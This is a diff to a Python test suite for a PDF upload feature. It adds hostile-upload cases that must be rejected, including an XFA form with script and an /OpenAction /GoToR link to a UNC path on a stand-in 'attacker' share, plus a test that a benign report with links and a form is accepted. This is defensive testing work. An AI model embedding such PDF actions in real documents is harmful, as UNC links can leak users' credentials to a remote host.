@@ -37,12 +37,15 @@ from tests.factories.advice_forms import (
 from tests.govuk import first_in_main
 from tests.otp import sign_in
 from tests.pdfs import (
+    action_on_open,
     embedded_file,
     inflating_to,
     javascript_on_open,
     launch_link,
     many_pages,
     raw_pdf,
+    report_with_links_and_a_form,
+    xfa_form,
     zlib_zeros,
 )
 
@@ -187,6 +190,12 @@ HOSTILE_UPLOADS = [
     ("JavaScript in /OpenAction", javascript_on_open, UploadProblem.SCRIPT),
     ("a /Launch action", launch_link, UploadProblem.LAUNCH),
     ("an embedded file", embedded_file, UploadProblem.EMBEDDED),
+    ("an XFA form with a script", xfa_form, UploadProblem.XFA_FORM),
+    (
+        "a /GoToR to a UNC path in /OpenAction",
+        lambda: action_on_open(rb"<< /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>"),
+        UploadProblem.LAUNCH,
+    ),
     ("100,000 pages in 600 KB", many_pages, too_many_pages_message),
     ("100,000 pages under a /Count of 1", lambda: many_pages(declared=1), too_many_pages_message),
     ("1 MB inflating to 1 GB", lambda: inflating_to(1024), too_big_when_opened_message),
@@ -239,6 +248,13 @@ def test_an_ordinary_pdf_with_compressed_text_links_and_an_open_action_is_accept
     )
 
     response = _upload(verified_client, ersa, data)
+
+    assert response.status_code == 302
+    assert Document.objects.count() == 1
+
+
+def test_a_report_with_web_links_and_a_plain_fillable_field_is_accepted(verified_client, ersa):
+    response = _upload(verified_client, ersa, report_with_links_and_a_form())
 
     assert response.status_code == 302
     assert Document.objects.count() == 1
